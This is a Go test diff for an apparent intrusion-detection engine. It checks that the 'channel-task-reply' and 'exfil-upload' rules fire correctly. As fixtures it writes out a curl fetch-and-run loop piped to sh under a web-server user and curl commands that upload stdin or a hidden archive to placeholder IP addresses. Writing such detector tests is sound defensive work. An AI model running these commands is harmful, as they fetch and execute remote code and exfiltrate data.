@@ -76,3 +76,36 @@ func TestDNSChannel(t *testing.T) {
 		})
 	}
 }
+
+// TestChannelTaskReply: a task of a fetch-and-run loop that sends its
+// standard input back to the loop's own server is the channel's return
+// leg (stage 7); a named file sent there, or stdin sent elsewhere, is
+// exfiltration.
+func TestChannelTaskReply(t *testing.T) {
+	for _, c := range []struct {
+		name, rule string
+		args       []string
+		stage      Stage
+	}{
+		{"stdin back to the task server", "channel-task-reply", []string{"curl", "-fsS", "--data-binary", "@-", "http://203.0.113.9:8001/r1"}, StageCommandAndControl},
+		{"an archive to the task server", "exfil-upload", []string{"curl", "-fsS", "-F", "file=@/tmp/.s.tgz", "http://203.0.113.9:8001/upload"}, StageExfiltrationImpact},
+		{"stdin to another server", "exfil-upload", []string{"curl", "--data-binary", "@-", "http://198.51.100.7/x"}, StageExfiltrationImpact},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			e, s := webShellScene(t)
+			s.exec(300, 200, 33, "www-data", "/tmp", "/usr/bin/dash", "sh", "-c", "while :; do curl -fsS http://203.0.113.9:8001/t | sh; sleep 3; done")
+			s.exec(301, 300, 33, "www-data", "/tmp", "/usr/bin/dash", "sh")
+			fs := e.Observe(s.exec(302, 301, 33, "www-data", "/tmp", "/usr/bin/curl", c.args...), s.tree)
+			f := findingOf(fs, c.rule)
+			if f == nil {
+				t.Fatalf("%s did not fire: %v", c.rule, ids(fs))
+			}
+			if f.Stage != c.stage {
+				t.Errorf("stage %v, want %v", f.Stage, c.stage)
+			}
+			if other := map[string]string{"channel-task-reply": "exfil-upload", "exfil-upload": "channel-task-reply"}[c.rule]; findingOf(fs, other) != nil {
+				t.Errorf("%s fired as well", other)
+			}
+		})
+	}
+}
